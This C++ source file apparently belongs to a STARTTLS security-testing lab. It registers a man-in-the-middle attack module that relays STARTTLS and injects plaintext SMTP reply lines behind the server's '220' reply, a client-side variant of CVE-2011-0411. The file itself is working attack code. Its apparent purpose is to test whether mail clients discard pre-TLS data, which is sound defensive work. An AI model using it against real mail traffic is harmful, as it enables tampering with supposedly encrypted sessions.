// inject-after-starttls: response injection (the client-side twin of CVE-2011-0411). Plaintext
// reply lines ride right behind the MX's "220 ready", before any TLS byte. A careful client
// throws them away when it starts TLS; a careless one later reads them as if they had come
// through the encrypted channel. Parameter `lines`: the injected lines, separated by '|'.
#include "basic_attack.hpp"

namespace stslab::mitm::attacks {

namespace {
class InjectAfterStarttls final : public BasicAttack {
 public:
  InjectAfterStarttls(AttackSpec spec, std::vector<std::string> lines)
      : BasicAttack(std::move(spec)), lines_(std::move(lines)) {}

  ReplyDecision on_reply(const Command& command, Reply& reply) const override {
    ReplyDecision d;
    if (!command.is("STARTTLS") || command.phase != Phase::plaintext || reply.code() != 220) {
      return d;
    }
    d.inject = lines_;
    d.action = "injected " + std::to_string(lines_.size()) + " lines after 220";
    d.details = {{"injected", lines_}};
    return d;
  }

 private:
  std::vector<std::string> lines_;
};

std::vector<std::string> split_lines(const std::string& text) {
  std::vector<std::string> out;
  std::size_t start = 0;
  for (;;) {
    auto bar = text.find('|', start);
    out.push_back(text.substr(start, bar - start));
    if (bar == std::string::npos) break;
    start = bar + 1;
  }
  return out;
}
}  // namespace

void register_inject_after_starttls(AttackRegistry& registry) {
  registry.add("inject-after-starttls",
               "relay STARTTLS, append plaintext reply lines behind the 220, then pass TLS "
               "through (param lines='a|b')",
               [](const AttackSpec& spec, const AttackEnv&) {
                 require_known_params(spec, {"lines"});
                 auto lines = split_lines(param_or(spec, "lines", "250 2.0.0 injected by mitm"));
                 for (const auto& line : lines) {
                   if (line.find_first_of("\r\n") != std::string::npos) {
                     throw std::invalid_argument(
                         "attack 'inject-after-starttls': a line must not contain CR or LF");
                   }
                 }
                 return std::make_shared<InjectAfterStarttls>(spec, std::move(lines));
               });
}

}  // namespace stslab::mitm::attacks
